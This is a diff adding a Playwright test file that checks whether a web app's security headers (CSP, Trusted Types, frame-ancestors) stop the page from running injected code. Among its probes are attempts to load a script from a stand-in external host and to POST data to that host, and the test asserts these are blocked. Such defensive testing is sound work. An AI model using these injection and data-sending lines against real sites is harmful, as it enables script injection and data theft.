@@ -1,0 +1,136 @@
+import type { Page } from '@playwright/test';
+import { expect, test } from './fixtures';
+
+/** What a page may not do to itself, whoever gets it to try; each answers whether it did. */
+const attempts: Record<string, (page: Page) => Promise<boolean>> = {
+  'evaluate text': (page) =>
+    page.evaluate(
+      () =>
+        new Promise<boolean>((resolve) => {
+          // In a turn of the page's own: what a test evaluates itself may do so.
+          setTimeout(() => {
+            try {
+              resolve(Boolean(new Function('return 1')()));
+            } catch {
+              resolve(false);
+            }
+          }, 0);
+        }),
+    ),
+  'run a text later': (page) =>
+    page.evaluate(
+      () =>
+        new Promise<boolean>((resolve) => {
+          Object.assign(window, { ranLater: () => resolve(true) });
+          try {
+            setTimeout('ranLater()' as unknown as () => void, 0);
+          } catch {
+            resolve(false);
+          }
+          setTimeout(() => resolve(false), 200);
+        }),
+    ),
+  'put markup into the page': (page) =>
+    page.evaluate(() => {
+      try {
+        document.body.appendChild(document.createElement('div')).innerHTML = '<img alt="">';
+        return true;
+      } catch {
+        return false;
+      }
+    }),
+  'make a policy of its own': (page) =>
+    page.evaluate(() => {
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy(name: string, rules: object): unknown };
+      };
+      try {
+        trustedTypes.createPolicy('mine', {});
+        return true;
+      } catch {
+        return false;
+      }
+    }),
+  'run a script from elsewhere': (page) =>
+    page.evaluate(
+      () =>
+        new Promise<boolean>((resolve) => {
+          const script = document.createElement('script');
+          script.onload = () => resolve(true);
+          script.onerror = () => resolve(false);
+          script.src = 'https://elsewhere.example/script.js';
+          document.head.append(script);
+        }),
+    ),
+  'send data elsewhere': (page) =>
+    page.evaluate(() =>
+      fetch('https://elsewhere.example/collect', {
+        method: 'POST',
+        mode: 'no-cors',
+        body: 'x',
+      }).then(
+        () => true,
+        () => false,
+      ),
+    ),
+};
+
+for (const server of ['npm start', 'nginx'] as const)
+  test(`behind ${server}, a page runs nothing but its own code, and nobody frames it`, async ({
+    page,
+    product,
+    deployment,
+    complaints,
+  }) => {
+    complaints.expectComplaint(/policy|Content Security Policy|TrustedHTML|trusted/i);
+    const { url } = server === 'nginx' ? deployment : product;
+    // Who answered would have been reached: what is refused never asks.
+    await page.route('https://elsewhere.example/**', (route) =>
+      route.fulfill({ headers: { 'Access-Control-Allow-Origin': '*' }, body: 'window.ran = true' }),
+    );
+    await page.goto(url);
+    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
+    const done = [];
+    for (const [what, attempt] of Object.entries(attempts))
+      if (await attempt(page)) done.push(what);
+    expect(done).toEqual([]);
+
+    await page.route('https://framing.example/', (route) =>
+      route.fulfill({ contentType: 'text/html', body: `<iframe src="${url}"></iframe>` }),
+    );
+    await page.goto('https://framing.example/');
+    const frame = page.frameLocator('iframe');
+    await expect(frame.getByRole('heading', { level: 1 })).toHaveCount(0);
+  });
+
+test('nginx and npm start send the same headers with the page, and the same with a role app', async ({
+  product,
+  deployment,
+}) => {
+  const names = [
+    ...['content-security-policy', 'referrer-policy', 'x-frame-options', 'permissions-policy'],
+    ...['cross-origin-opener-policy', 'cross-origin-resource-policy', 'x-content-type-options'],
+    ...['access-control-allow-origin', 'cache-control', 'content-type'],
+  ];
+  const headersOf = async (address: string, ports: readonly string[]) => {
+    const { headers } = await fetch(address, { headers: { accept: 'text/html' } });
+    const sent = names.map((name) => [name, headers.get(name)] as const);
+    return Object.fromEntries(
+      sent.map(([name, value]) => [
+        name,
+        ports.reduce((text, port, index) => text.replaceAll(port, `port ${index}`), value ?? ''),
+      ]),
+    );
+  };
+  const ids = Object.keys(product.servers);
+  const ofProduct = ids.map((id) => product.servers[id]?.url ?? '');
+  const ofNginx = ids.map((id) => deployment.originOf(id));
+  const policy = await headersOf(`${deployment.url}/`, ofNginx);
+  expect(policy).toEqual(await headersOf(`${product.url}/`, ofProduct));
+  expect(policy['content-security-policy']).toContain("frame-ancestors 'none'");
+  expect(policy['content-security-policy']).not.toContain('unsafe-eval');
+  for (const file of ['/remote.json'])
+    expect(await headersOf(`${deployment.originOf('doctor')}${file}`, ofNginx)).toEqual(
+      await headersOf(`${product.servers.doctor?.url}${file}`, ofProduct),
+    );
+});
